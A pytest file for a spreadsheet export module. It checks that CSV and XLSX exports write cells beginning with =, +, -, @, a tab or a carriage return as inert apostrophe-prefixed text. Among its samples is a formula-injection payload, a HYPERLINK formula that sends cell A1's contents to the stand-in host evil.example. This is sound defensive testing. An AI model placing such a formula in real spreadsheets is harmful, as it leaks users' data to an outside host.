"""Every spreadsheet we write keeps text as text (OWASP's CSV-injection rule, issue 15 item 4).

Hand-worked: a text cell that begins with = + - @, a tab or a carriage return is written with
a leading apostrophe and as a text cell (never a formula); numbers (a negative amount typed as
a number too), dates and ordinary text are written unchanged.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from documents.spreadsheets import (
    SourceRow,
    Table,
    read_table,
    rows_to_csv,
    rows_to_xlsx,
    write_rejects,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
DANGEROUS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+84912345678", "'+84912345678"),
    ("-500", "'-500"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
]
HARMLESS: list[object] = ["Ho\u00e0ng V\u0103n Th\u00e0o", "ND-015", "a=b", 1_500_000, -500, 2.5]


def text(key: str, **_params: object) -> str:
    return key


@pytest.mark.parametrize(("typed", "written"), DANGEROUS)
def test_xlsx_export_writes_a_dangerous_text_as_inert_text(typed: str, written: str) -> None:
    data = rows_to_xlsx([{"donor_name": typed, "amount": -500}], ["donor_name", "amount"], text)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet["A2"]
    # openpyxl writes through lxml (python-docx brings it), which escapes a carriage return
    # as a character reference: the cell reads back exactly as written, inert
    assert (cell.value, cell.data_type) == (written, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-500, "n")


def test_xlsx_export_keeps_numbers_dates_and_plain_text() -> None:
    columns = [f"c{i}" for i in range(len(HARMLESS))] + ["born"]
    row: dict[str, object] = {f"c{i}": v for i, v in enumerate(HARMLESS)}
    row["born"] = date(1958, 2, 14)
    sheet = load_workbook(io.BytesIO(rows_to_xlsx([row], columns, text))).active
    assert sheet is not None
    values = [c.value for c in sheet[2]]
    assert values == [*HARMLESS, datetime(1958, 2, 14)]


@pytest.mark.parametrize(("typed", "written"), DANGEROUS)
def test_csv_export_writes_a_dangerous_text_as_inert_text(typed: str, written: str) -> None:
    data = rows_to_csv([{"donor_name": typed, "amount": -500}], ["donor_name", "amount"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["donor_name", "amount"], [written, "-500"]]


def test_csv_export_keeps_numbers_dates_and_plain_text() -> None:
    columns = [f"c{i}" for i in range(len(HARMLESS))] + ["born"]
    row: dict[str, object] = {f"c{i}": v for i, v in enumerate(HARMLESS)}
    row["born"] = date(1958, 2, 14)
    rows = list(csv.reader(io.StringIO(rows_to_csv([row], columns).decode("utf-8-sig"),
                                       newline="")))
    assert rows[1] == [*(str(v) for v in HARMLESS), "1958-02-14"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_rejected_rows_file_writes_a_dangerous_text_as_inert_text(fmt: str,
                                                                   tmp_path: Path) -> None:
    table = Table(["Ma ho", "So tien"], [SourceRow(5, {"Ma ho": HYPERLINK, "So tien": -500})],
                  {"Ma ho": "household_code"}, fmt)
    target = tmp_path / f"loi.{fmt}"
    write_rejects(table, {5: "@reason"}, target, "=Ly do")
    if fmt == "xlsx":
        sheet = load_workbook(target).active
        assert sheet is not None
        got = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
        assert got == [[("Ma ho", "s"), ("So tien", "s"), ("'=Ly do", "s")],
                       [("'" + HYPERLINK, "s"), (-500, "n"), ("'@reason", "s")]]
    else:
        rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
        assert rows == [["Ma ho", "So tien", "'=Ly do"], ["'" + HYPERLINK, "-500", "'@reason"]]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_reads_back_without_the_apostrophe(fmt: str, tmp_path: Path) -> None:
    """A phone written as '+84912345678 is imported as +84912345678 again."""
    columns = ["full_name", "date_of_birth", "village", "phone"]
    row: dict[str, object] = {"full_name": "A", "date_of_birth": "1/1/1970", "village": "B",
                              "phone": "+84912345678"}
    path = tmp_path / f"back.{fmt}"
    path.write_bytes(rows_to_xlsx([row], columns, text) if fmt == "xlsx"
                     else rows_to_csv([row], columns))
    table = read_table(path)
    assert table.values(table.rows[0])["phone"] == "+84912345678"
